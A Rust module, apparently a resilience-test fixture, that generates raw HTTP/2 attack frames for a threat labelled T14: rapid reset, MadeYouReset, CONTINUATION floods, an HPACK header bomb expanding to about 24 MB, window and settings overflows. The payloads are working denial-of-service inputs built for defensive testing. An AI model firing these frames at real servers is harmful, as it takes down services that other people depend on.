//! Attacks on HTTP/2 itself (threat T14): what an attacker writes once, and then again and again.

use prost::Message;

use super::raw::*;

/// What is written again, by its number.
pub type Again = Box<dyn Fn(u32) -> Vec<u8> + Send + Sync>;

/// One attack.
pub struct Attack {
    /// Its name.
    pub name: &'static str,
    /// What is written first.
    pub once: Vec<u8>,
    /// And then.
    pub again: Again,
}

/// A call, subscribed as a foreign peer.
pub fn subscribed(stream: u32) -> Vec<u8> {
    let mut bytes = call_headers(stream, &[]);
    bytes.extend(frame(DATA, 0, stream, &framed(&subscription().encode_to_vec())));
    bytes
}

/// Frames that carry nothing.
pub fn of_nothing() -> Vec<Attack> {
    let update = |stream| frame(WINDOW_UPDATE, 0, stream, &1u32.to_be_bytes());
    let cases: [(&'static str, Vec<u8>, Vec<u8>); 10] = [
        ("ping", vec![], frame(PING, 0, 0, &[0; 8])),
        ("ping-answer", vec![], frame(PING, 1, 0, &[0; 8])),
        ("settings", vec![], frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])),
        ("priority", vec![], frame(PRIORITY, 0, 7, &[0, 0, 0, 0, 16])),
        ("unknown", vec![], frame(0xbb, 0, 0, &[0; 100])),
        ("connection-window", vec![], update(0)),
        ("stream-window", subscribed(1), update(1)),
        ("empty-data", subscribed(1), frame(DATA, 0, 1, &[])),
        ("padding", subscribed(1), frame(DATA, 8, 1, &[[9].as_slice(), &[0; 9]].concat())),
        // A byte at a time; five zeros are an empty message.
        ("thin-data", subscribed(1), frame(DATA, 0, 1, &[0])),
    ];
    let attack = |(name, once, again): (&'static str, Vec<u8>, Vec<u8>)| Attack {
        name,
        once,
        again: Box::new(move |_| again.clone()),
    };
    cases.into_iter().map(attack).collect()
}

/// Attacks that open streams, or that HTTP/2's own rules end.
pub fn with_streams() -> Vec<Attack> {
    let odd = |i: u32| 2 * i + 1;
    let both = |mut a: Vec<u8>, b: Vec<u8>| {
        a.extend(b);
        a
    };
    let reset =
        move |i: u32| both(call_headers(odd(i), &[]), frame(RST_STREAM, 0, odd(i), &8u32.to_be_bytes()));
    // The agent has to reset what breaks a rule: "MadeYouReset".
    let zero =
        move |i: u32| both(call_headers(odd(i), &[]), frame(WINDOW_UPDATE, 0, odd(i), &0u32.to_be_bytes()));
    let most = 0x7fff_ffffu32.to_be_bytes();
    let over = move |i: u32| both(call_headers(odd(i), &[]), frame(WINDOW_UPDATE, 0, odd(i), &most));
    let after_end = move |i: u32| {
        let mut bytes = call_headers(odd(i), &[]);
        bytes.extend(frame(DATA, 1, odd(i), &[]));
        bytes.extend(frame(DATA, 0, odd(i), b"more"));
        bytes
    };
    let open_headers = || {
        let mut bytes = call_headers(1, &[]);
        bytes[4] = 0; // no END_HEADERS
        bytes
    };
    // Puts 3 KiB into the table, then names it by one byte 8,000 times: 24 MB.
    let bomb = |i: u32| {
        let mut bytes = vec![];
        let mut block = vec![0x40, 1, b'x', 127, 0x81, 0x17]; // 127 + 1 + 23 * 128 = 3,072
        block.extend([b'h'; 3_072]);
        block.extend([0x80 | 62; 8_000]);
        bytes.extend(frame(HEADERS, 4, 2 * i + 1, &block));
        bytes
    };
    let huge = "h".repeat(12_000);
    let too_large = move |i: u32| call_headers(odd(i), &[("x-huge", &huge)]);
    let cases: Vec<(&'static str, Vec<u8>, Again)> = vec![
        ("rapid-reset", vec![], Box::new(reset)),
        ("made-you-reset", vec![], Box::new(zero)),
        ("stream-overflow", vec![], Box::new(over)),
        ("data-after-end", vec![], Box::new(after_end)),
        ("continuation", open_headers(), Box::new(|_| frame(CONTINUATION, 0, 1, &[]))),
        ("continuation-of-headers", open_headers(), {
            Box::new(|_| frame(CONTINUATION, 0, 1, &[0, 1, b'x', 1, b'y']))
        }),
        ("bomb", vec![], Box::new(bomb)),
        ("too-large", vec![], Box::new(too_large)),
        ("overflow", vec![], Box::new(move |_| frame(WINDOW_UPDATE, 0, 0, &most))),
        ("settings-overflow", subscribed(1), {
            Box::new(move |_| frame(SETTINGS, 0, 0, &[0, 4, 0xff, 0xff, 0xff, 0xff]))
        }),
    ];
    cases.into_iter().map(|(name, once, again)| Attack { name, once, again }).collect()
}
